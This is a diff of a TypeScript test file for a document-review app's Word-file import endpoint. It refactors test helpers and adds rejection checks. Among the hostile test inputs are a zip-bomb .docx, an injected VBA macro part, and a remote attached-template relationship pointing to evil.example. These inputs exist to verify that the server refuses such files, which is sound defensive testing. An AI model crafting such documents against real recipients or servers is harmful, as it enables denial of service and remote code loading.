@@ -2,40 +2,31 @@ import { Document, Packer, Paragraph } from 'docx';
 import JSZip from 'jszip';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Unit } from '../../server/db/units.repository.js';
-import { makeMember, makeUnit, type TestMember } from '../helpers/factories.js';
+import { makeDocumentInRound, makeMembers, makeUnit, type SignedInMember } from '../helpers/factories.js';
 import { expectProblem, startTestApp, type TestApp } from '../helpers/test-app.js';
+import { zipBombDocx } from '../helpers/docx-files.js';
 import { memberFile, type Piece } from '../helpers/word-review-files.js';
 
 let t: TestApp;
 let commune: Unit;
-let drafter: TestMember, secretary: TestMember, alice: TestMember, bob: TestMember;
-const tok: Record<string, string> = {};
+let drafter: SignedInMember, secretary: SignedInMember, alice: SignedInMember, bob: SignedInMember;
 const report = '# I. Kinh tế\nTốc độ tăng trưởng đạt 8,2% mỗi năm, vượt chỉ tiêu Nghị quyết.\n# II. Xã hội\nTỷ lệ hộ nghèo giảm còn 4,1% theo chuẩn nghèo đa chiều.\n';
-const inHours = (h: number) => new Date(Date.now() + h * 3600_000).toISOString();
 
 beforeAll(async () => {
   t = await startTestApp();
   const db = t.database.db;
   commune = await makeUnit(db, { parent: await makeUnit(db, { level: 'district' }) });
-  drafter = await makeMember(db, { roles: [[commune, 'drafter']] });
-  secretary = await makeMember(db, { roles: [[commune, 'secretary']] });
-  alice = await makeMember(db, { roles: [[commune, 'member']] });
-  bob = await makeMember(db, { roles: [[commune, 'member']] });
-  for (const m of [drafter, secretary, alice, bob]) tok[m.id] = await t.tokenFor(m);
+  ({ drafter, secretary, alice, bob } = await makeMembers(t, { drafter: [[commune, 'drafter']], secretary: [[commune, 'secretary']], alice: [[commune, 'member']], bob: [[commune, 'member']] }));
 });
 afterAll(async () => t.close());
 
-async function round(): Promise<string> {
-  const created = await t.request({ method: 'POST', url: '/api/v1/documents', token: tok[drafter.id], payload: { unitId: commune.id, title: 'Dự thảo', content: { format: 'markdown', value: report } } });
-  const opened = await t.request({ method: 'POST', url: `/api/v1/documents/${created.json().id}/rounds`, token: tok[drafter.id], payload: { closesAt: inHours(24) } });
-  return opened.json().id;
-}
+const round = async (): Promise<string> => (await makeDocumentInRound(t, drafter.token, { unitId: commune.id, markdown: report })).roundId;
 
-const send = (roundId: string, member: TestMember, file: Buffer | string, extra: Record<string, unknown> = {}) =>
+const send = (roundId: string, member: SignedInMember, file: Buffer | string, extra: Record<string, unknown> = {}) =>
   t.request({
     method: 'POST',
     url: `/api/v1/rounds/${roundId}/imports`,
-    token: tok[member.id],
+    token: member.token,
     payload: { filename: 'gop-y.docx', dataBase64: typeof file === 'string' ? file : file.toString('base64'), ...extra },
   });
 
@@ -66,7 +57,7 @@ describe('importing a member’s Word file', () => {
     const again = await send(roundId, alice, await memberFile(marked));
     expect(again.statusCode).toBe(200);
     expect(again.json()).toEqual({ created: [], unplaced: 1 });
-    const listed = await t.request({ method: 'GET', url: `/api/v1/rounds/${roundId}/annotations`, token: tok[alice.id] });
+    const listed = await t.request({ method: 'GET', url: `/api/v1/rounds/${roundId}/annotations`, token: alice.token });
     expect(listed.json()).toHaveLength(3);
   });
 
@@ -93,6 +84,8 @@ describe('importing a member’s Word file', () => {
     expectProblem(await send(roundId, alice, Buffer.from('%PDF-1.4\n%%EOF\n')), 415, 'unsupported_media_type');
     expectProblem(await send(roundId, alice, 'không phải base64!'), 400, 'validation_failed');
     expectProblem(await send(roundId, alice, Buffer.concat([Buffer.from('%PDF-'), Buffer.alloc(10 * 1024 * 1024)])), 413, 'too_large');
+    // A zip bomb: a small file whose document.xml declares 101 MiB, refused before it is inflated.
+    expect(expectProblem(await send(roundId, alice, await zipBombDocx(101)), 413, 'too_large').fileProblem).toBe('unpacks_too_large');
     const macro = await JSZip.loadAsync(await memberFile(marked));
     macro.file('word/vbaProject.bin', Buffer.alloc(16));
     expectProblem(await send(roundId, alice, await macro.generateAsync({ type: 'nodebuffer' })), 415, 'unsupported_media_type');
@@ -102,12 +95,12 @@ describe('importing a member’s Word file', () => {
       'word/_rels/document.xml.rels',
       rels.replace('</Relationships>', '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'),
     );
-    expectProblem(await send(roundId, alice, await external.generateAsync({ type: 'nodebuffer' })), 415, 'unsupported_media_type');
+    expect(expectProblem(await send(roundId, alice, await external.generateAsync({ type: 'nodebuffer' })), 415, 'unsupported_media_type').fileProblem).toBe('external_content');
     const broken = await JSZip.loadAsync(await memberFile(marked));
     broken.file('word/document.xml', '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>');
     expectProblem(await send(roundId, alice, await broken.generateAsync({ type: 'nodebuffer' })), 400, 'validation_failed');
-    expectProblem(await t.request({ method: 'POST', url: `/api/v1/rounds/${roundId}/imports`, token: tok[alice.id], payload: { filename: 'a.docx' } }), 400, 'validation_failed');
-    const listed = await t.request({ method: 'GET', url: `/api/v1/rounds/${roundId}/annotations`, token: tok[alice.id] });
+    expectProblem(await t.request({ method: 'POST', url: `/api/v1/rounds/${roundId}/imports`, token: alice.token, payload: { filename: 'a.docx' } }), 400, 'validation_failed');
+    const listed = await t.request({ method: 'GET', url: `/api/v1/rounds/${roundId}/annotations`, token: alice.token });
     expect(listed.json()).toEqual([]);
   });
 });
